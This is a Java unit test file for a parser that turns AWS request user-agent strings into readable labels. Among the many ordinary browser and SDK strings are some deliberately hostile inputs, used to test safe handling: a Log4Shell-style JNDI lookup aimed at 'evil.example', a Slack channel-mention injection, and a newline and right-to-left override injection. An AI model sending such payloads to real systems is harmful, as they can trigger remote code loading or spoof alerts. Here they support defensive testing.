package rootalert.event;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class UserAgentTest {

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '~', emptyValue = "", textBlock = """
            Chrome 142 on macOS   | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36
            Edge 141 on Windows   | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0
            Opera 122 on Windows  | Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/138.0.0.0 Safari/537.36 OPR/122.0.0.0
            Firefox 145 on Linux  | Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0
            Safari 18 on macOS    | Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Safari/605.1.15
            Safari 17 on iPhone   | Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1
            Chrome 126 on iPad    | Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1
            Chrome 142 on Android | Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36
            Samsung Internet 28 on Android | Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/28.0 Chrome/130.0.0.0 Mobile Safari/537.36
            Chrome 142 on ChromeOS | Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36
            AWS CLI 2.32 on Linux | aws-cli/2.32.6 md/awscrt#0.29.1 ua/2.1 os/linux#6.12.57-generic md/arch#x86_64 lang/python#3.13.9 md/command#sts.assume-root
            AWS CLI 2.32 on macOS | aws-cli/2.32.1 md/awscrt#0.28.4 ua/2.1 os/macos#25.1.0 md/arch#arm64 lang/python#3.13.9
            AWS CLI 2.4 on Windows | aws-cli/2.4.5 Python/3.8.8 Windows/10 exe/AMD64 prompt/off command/s3.ls
            AWS CLI 1.18 on Linux | aws-cli/1.18.147 Python/2.7.18 Linux/4.14.225 botocore/1.18.6
            Terraform 1.9         | APN/1.0 HashiCorp/1.0 Terraform/1.9.8 (+https://www.terraform.io) terraform-provider-aws/5.75.0 aws-sdk-go-v2/1.32.3 os/linux
            Terraform             | HashiCorp Terraform
            OpenTofu 1.8          | APN/1.0 OpenTofu/1.8.0 aws-sdk-go-v2/1.32.3
            Pulumi                | APN/1.0 Pulumi/1.0 PulumiAws/6.0.0 aws-sdk-go-v2/1.30.0
            AWS CDK               | aws-cdk/2.160.0 aws-sdk-js/3.600.0
            AWS Tools for PowerShell | AWSPowerShell/4.1.0 .NET_Runtime/4.0 OS/Microsoft_Windows_10 WindowsPowerShell/5.0
            AWS CloudFormation    | cloudformation.amazonaws.com
            AWS console           | signin.amazonaws.com
            AWS console           | console.amazonaws.com
            AWS console (ec2)     | console.ec2.amazonaws.com
            AWS Internal          | AWS Internal
            AWS service autoscaling | autoscaling.amazonaws.com
            AWS console (S3)      | [S3Console/0.4, aws-internal/3 aws-sdk-java/1.12.488 Linux/5.10 OpenJDK_64-Bit_Server_VM]
            AWS console (S3)      | S3Console/0.4
            AWS console or another part of AWS itself | Coral/Netty4
            AWS console or another part of AWS itself | aws-internal/3 aws-sdk-java/1.11.898 Linux/4.9.230 OpenJDK_64-Bit_Server_VM
            AWS console or another part of AWS itself | AWS Signin, aws-internal/3 aws-sdk-java/1.12.1
            AWS SDK for Python (Boto3 1.41) | Boto3/1.41.5 md/Botocore#1.41.5 ua/2.1 os/linux#5.15 Botocore/1.41.5
            AWS SDK for Python (botocore 1.29) | Botocore/1.29.4 Python/3.9
            AWS SDK for Java 2.25 | aws-sdk-java/2.25.1 md/io#sync md/http#Apache ua/2.1 os/Linux#5.10
            AWS SDK for Go 1.44   | aws-sdk-go/1.44.122 (go1.19; linux; amd64)
            AWS SDK for Go 1.30   | aws-sdk-go-v2/1.30.3 os/linux lang/go#1.22
            AWS SDK for JavaScript 3 | aws-sdk-js/3.600.0 ua/2.0 os/linux lang/js
            AWS SDK for JavaScript 2 | aws-sdk-nodejs/2.1000.0 linux/v18 promise
            AWS SDK for .NET 3.7  | aws-sdk-dotnet-coreclr/3.7.100 .NET_Core/6.0
            AWS SDK for Ruby 3.190 | aws-sdk-ruby3/3.190.0 ua/2.0
            AWS SDK for Rust 1.3  | aws-sdk-rust/1.3.3 os/linux lang/rust
            AWS SDK for PHP 3.300 | aws-sdk-php/3.300.1 OS/Linux
            AWS CLI 2.32 on Windows | aws-cli/2.32.6 md/awscrt#0.29.1 ua/2.1 os/windows#11 md/arch#amd64
            AWS CLI 2.4 on macOS  | aws-cli/2.4.5 Python/3.8.8 Darwin/20.6.0 exe/x86_64 prompt/off command/s3.ls
            Firefox 145 on Windows | [Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:145.0) Gecko/20100101 Firefox/145.0]
            curl 8.5              | [curl/8.5.0]
            curl 8.5              | curl/8.5.0
            Python script         | python-requests/2.32.3
            Chrome on iPhone      | Mozilla/5.0 (iPhone) Chrome/18885550100 AWS Support
            Safari on macOS       | Mozilla/5.0 (Macintosh) Version/1888 Safari/605
            AWS CLI on Linux      | aws-cli/1888.5550100 os/linux
            AWS CLI on Linux      | aws-cli/18.8855501 os/linux
            AWS SDK for Python (Boto3) | Boto3/188855.50100
            AWS service           | 1-888-555-0100.amazonaws.com
            AWS console           | console.18885550100.amazonaws.com
            curl                  | curl/1888555.0100
            A browser             | Mozilla/5.0
            A browser on Windows  | Mozilla/5.0 (Windows NT 10.0; Win64; x64)
            AWS SDK for Java      | aws-sdk-java/unknown-version Linux/5.10
            AWS SDK for Go        | aws-sdk-go-v2/next os/linux
            AWS SDK for .NET      | aws-sdk-dotnet-coreclr
            AWS CLI on Linux      | aws-cli/v3 os/linux
            AWS SDK               | aws-sdk-newlang/1.0
            AWS console or another part of AWS itself | Coral/Jersey2
            ''                    | Mozilla/5.0 (compatible; Evil/1.0)
            ''                    | Chrome/142.0.0.0
            ''                    | evil.example/amazonaws.com
            ''                    | evil curl/8.5.0
            ''                    | <!channel> $1 ${jndi:ldap://evil.example/a}
            """)
    void isPutIntoWords(String words, String userAgent) {
        assertThat(new UserAgent(userAgent, false).words()).isEqualTo(words.replace("''", ""));
    }

    @Test
    void mayBeAbsent() {
        assertThat(new UserAgent("", false).words()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            AWS console                      | AWS Internal
            AWS console                      | Coral/Jersey2
            AWS console (ec2)                | console.ec2.amazonaws.com
            AWS console                      | SomethingOfTomorrow/7
            AWS console (AWS SDK for Java)   | aws-sdk-java/unknown-version
            Firefox 145 on Linux             | Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0
            """)
    void isTheConsoleWhereTheRecordSaysSo(String words, String userAgent) {
        assertThat(new UserAgent(userAgent, true).words()).isEqualTo(words);
    }

    @Test
    void isASafeLineOfAtMost512Characters() {
        var userAgent = TestRecord.call("iam/GetUser")
                .with("{userAgent: 'curl/8.5.0\\nWHAT HAPPENED\\u202e%s'}".formatted("a".repeat(1_000)))
                .read()
                .userAgent();
        assertThat(userAgent.words()).isEqualTo("curl 8.5");
        assertThat(userAgent.text())
                .startsWith("curl/8.5.0 WHAT HAPPENED\uFFFDaaa")
                .hasSize(512);
    }
}
